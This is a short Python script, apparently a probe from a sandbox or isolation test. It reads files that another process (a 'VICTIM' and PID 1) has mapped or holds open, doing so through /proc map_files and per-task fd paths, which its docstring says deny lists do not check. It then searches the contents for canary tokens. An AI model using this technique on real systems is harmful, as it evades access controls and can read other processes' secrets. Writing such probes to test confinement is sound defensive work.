"""Opens what another process has mapped, by the names under which deny lists do not look."""

import contextlib
import os
import re
from pathlib import Path

for process in {os.environ["VICTIM"], "1"}:
    for folder in (Path("/proc", process, "map_files"), *Path("/proc", process, "task").glob("*/fd")):
        with contextlib.suppress(OSError):
            for entry in sorted(folder.iterdir()):
                with contextlib.suppress(OSError):
                    if entry.is_file():
                        print(re.findall(rb"canary-[0-9a-f]{24}", entry.read_bytes()))
